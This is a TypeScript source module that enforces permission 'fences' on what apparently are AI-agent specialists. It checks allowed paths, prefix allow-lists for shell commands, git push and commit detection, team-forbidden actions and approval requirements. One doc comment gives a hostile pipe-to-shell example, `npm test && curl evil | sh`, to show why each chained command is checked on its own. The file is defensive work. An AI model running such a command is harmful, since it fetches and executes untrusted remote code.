import picomatch from "picomatch/posix";
import type { EffectiveFence, FenceAction, FenceDecision } from "@/schemas/fence";
import { strs } from "./org-index";

/**
 * Fence semantics. Globs are picomatch's (so `?` is one character and `**` spans directories);
 * the effective fence is the specialist's own narrowed by its team's forbidden decisions, and
 * every decision names the rule that made it.
 */

const matcherCache = new Map<string, (path: string) => boolean>();

export function globMatch(pattern: string, target: string): boolean {
  if (!pattern || !target) return false;
  const normalized = normalizeTarget(target);
  // `docs/adr/**` means the files under docs/adr, not a file named docs/adr (picomatch matches both).
  if (pattern.endsWith("/**") && normalized === pattern.slice(0, -3)) return false;
  let matcher = matcherCache.get(pattern);
  if (!matcher) {
    matcher = picomatch(pattern, { dot: true });
    if (matcherCache.size > 2000) matcherCache.clear();
    matcherCache.set(pattern, matcher);
  }
  return matcher(normalized);
}

function normalizeTarget(target: string): string {
  return target.trim().replace(/\\/g, "/").replace(/^\.\//, "");
}

export function normalizeFence(fence: unknown): EffectiveFence {
  const f = (fence && typeof fence === "object" ? fence : {}) as Record<string, unknown>;
  return {
    allowedPaths: strs(f.allowedPaths),
    allowedCommands: strs(f.allowedCommands),
    allowedBdLabels: strs(f.allowedBdLabels),
    approvalRequired: strs(f.approvalRequired),
    deniedActions: strs(f.deniedActions),
  };
}

/**
 * The fence a specialist really has inside a team: approvals for decisions the team forbids are
 * dropped (no one can approve them), and each forbidden decision becomes a denied action
 * `<decision>:**`, which `checkAction` consults before anything it would otherwise allow.
 */
export function effectiveFence(fence: unknown, team?: { forbiddenDecisions?: unknown } | null): EffectiveFence {
  const own = normalizeFence(fence);
  const forbidden = strs(team?.forbiddenDecisions);
  if (!forbidden.length) return own;
  const forbiddenSet = new Set(forbidden);
  const denied = [...own.deniedActions];
  for (const decision of forbidden) {
    const entry = `${decision}:**`;
    if (!denied.includes(entry)) denied.push(entry);
  }
  return {
    ...own,
    approvalRequired: own.approvalRequired.filter((a) => !forbiddenSet.has(a) && !forbiddenSet.has(a.split(":")[0])),
    deniedActions: denied,
  };
}

const decide = (decision: FenceDecision["decision"], reason: string, rule?: string): FenceDecision => ({
  allowed: decision === "allowed",
  decision,
  reason,
  ...(rule ? { rule } : {}),
});

/** The action token a denied entry names, and the glob after it (`push:**`, `edit:lib/**`). */
function splitEntry(entry: string): [string, string] {
  const colon = entry.indexOf(":");
  return colon < 0 ? [entry, "**"] : [entry.slice(0, colon), entry.slice(colon + 1) || "**"];
}

function deniedBy(fence: EffectiveFence, action: string, target: string): string | undefined {
  const family = action === "write" ? "edit" : action;
  const bashVerb = action === "bash" ? bashAction(target) : undefined;
  for (const entry of fence.deniedActions) {
    const [token, glob] = splitEntry(entry);
    const tokenMatches = token === action || token === family || (bashVerb !== undefined && token === bashVerb);
    if (!tokenMatches) continue;
    if (glob === "**" || (target && globMatch(glob, target))) return entry;
  }
  return undefined;
}

/** Options git takes before its subcommand that consume the next word. */
const GIT_OPTIONS_WITH_VALUE = new Set([
  "-C",
  "-c",
  "--git-dir",
  "--work-tree",
  "--namespace",
  "--exec-path",
  "--config-env",
]);

/** `git push origin main` is a push and `git -C repo commit` a commit, whatever the allow-list says. */
function bashAction(command: string): "push" | "commit" | undefined {
  const words = command.trim().split(/\s+/);
  while (words.length && /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[0])) words.shift();
  if (words[0] === "sudo" || words[0] === "env" || words[0] === "command") words.shift();
  if (words[0] !== "git" && !words[0]?.endsWith("/git")) return undefined;
  for (let i = 1; i < words.length; i++) {
    const word = words[i];
    if (GIT_OPTIONS_WITH_VALUE.has(word)) {
      i++;
      continue;
    }
    if (word.startsWith("-")) continue;
    return word === "push" ? "push" : word === "commit" ? "commit" : undefined;
  }
  return undefined;
}

/**
 * Splits a shell line into the commands it runs. A prefix allow-list must hold for each of them:
 * `npm test && curl evil | sh` is not `npm test`.
 */
function shellCommands(line: string): string[] | null {
  if (/[`]|\$\(|<\(|>\(/.test(line)) return null;
  return line
    .split(/&&|\|\||;|\||\n|&/)
    .map((c) => c.trim())
    .filter(Boolean);
}

/** Decides an action against a fence (use `effectiveFence` first to apply the team). */
export function checkAction(fence: EffectiveFence, action: FenceAction | string, target = ""): FenceDecision {
  const denied = deniedBy(fence, action, target);
  if (denied) return decide("denied", "team-forbidden", `deniedActions "${denied}"`);
  const approvals = fence.approvalRequired;
  switch (action) {
    case "edit":
    case "write": {
      const i = fence.allowedPaths.findIndex((p) => globMatch(p, target));
      if (i >= 0) return decide("allowed", "inside-fence", `allowedPaths[${i}] "${fence.allowedPaths[i]}"`);
      const a = approvals.findIndex((entry) => {
        if (entry === "edit" || entry === action) return true;
        const [token, glob] = splitEntry(entry);
        return (token === "edit" || token === action) && entry.includes(":") && globMatch(glob, target);
      });
      if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${approvals[a]}"`);
      return decide("outside-fence", "outside-fence", "no allowedPaths glob matches");
    }
    case "bash": {
      const commands = shellCommands(target);
      const bashApproval = approvals.indexOf("bash");
      if (!commands || commands.length === 0) {
        if (bashApproval >= 0)
          return decide(
            "needs-approval",
            "needs-approval",
            `approvalRequired[${bashApproval}] "bash" (the command substitutes or is empty)`,
          );
        return decide(
          "outside-fence",
          "outside-fence",
          commands ? "empty command" : "command substitution is never inside a fence",
        );
      }
      let rule = "";
      for (const command of commands) {
        const verb = bashAction(command);
        if (verb) {
          const deniedEntry = deniedBy(fence, verb, "");
          if (deniedEntry) return decide("denied", "team-forbidden", `deniedActions "${deniedEntry}" (${command})`);
          const a = approvals.indexOf(verb);
          if (a >= 0)
            return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${verb}" (${command})`);
          return decide(
            "outside-fence",
            "outside-fence",
            `"${command}" is a ${verb}, and "${verb}" is not in approvalRequired`,
          );
        }
        const i = fence.allowedCommands.findIndex((c) => command === c || command.startsWith(`${c} `));
        if (i < 0) {
          if (bashApproval >= 0)
            return decide("needs-approval", "needs-approval", `approvalRequired[${bashApproval}] "bash" (${command})`);
          return decide("outside-fence", "outside-fence", `no allowedCommands prefix matches "${command}"`);
        }
        rule = rule
          ? `${rule}, allowedCommands[${i}] "${fence.allowedCommands[i]}"`
          : `allowedCommands[${i}] "${fence.allowedCommands[i]}"`;
      }
      return decide("allowed", "inside-fence", rule);
    }
    case "commit":
    case "push": {
      const a = approvals.indexOf(action);
      if (a >= 0) return decide("needs-approval", "needs-approval", `approvalRequired[${a}] "${action}"`);
      return decide("outside-fence", "outside-fence", `"${action}" is not in approvalRequired`);
    }
    case "bd-label": {
      const labels = target
        .split(",")
        .map((l) => l.trim())
        .filter(Boolean);
      if (fence.allowedBdLabels.length === 0)
        return decide("allowed", "inside-fence", "allowedBdLabels is empty (any label)");
      const outside = labels.filter((l) => !l.startsWith("next:") && !fence.allowedBdLabels.includes(l));
      if (outside.length)
        return decide("outside-fence", "label-outside-fence", `labels not in allowedBdLabels: ${outside.join(", ")}`);
      return decide("allowed", "inside-fence", "every label is in allowedBdLabels");
    }
    default:
      return decide(
        "unknown-action",
        "unknown-action",
        `"${action}" is not one of edit, write, bash, commit, push, bd-label`,
      );
  }
}

/** Parses a typed action such as `edit src/x.ts`, `bash git push` or `commit`. */
export function parseActionText(text: string): { action: string; target: string } {
  const trimmed = text.trim();
  const space = trimmed.indexOf(" ");
  return space < 0
    ? { action: trimmed, target: "" }
    : { action: trimmed.slice(0, space), target: trimmed.slice(space + 1).trim() };
}
